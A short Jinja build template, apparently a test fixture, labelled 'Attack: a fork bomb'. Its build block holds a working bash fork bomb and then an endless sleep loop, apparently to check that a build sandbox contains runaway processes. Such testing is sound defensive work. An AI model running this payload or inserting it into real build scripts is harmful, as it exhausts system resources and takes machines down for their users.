{#- Attack: a fork bomb. -#}
{% extends '//die/sh.sh' %}
{% block build %}
echo "fork bomb starts"
bomb() { bomb | bomb & }
bomb
wait
while :; do sleep 1; done
{% endblock %}
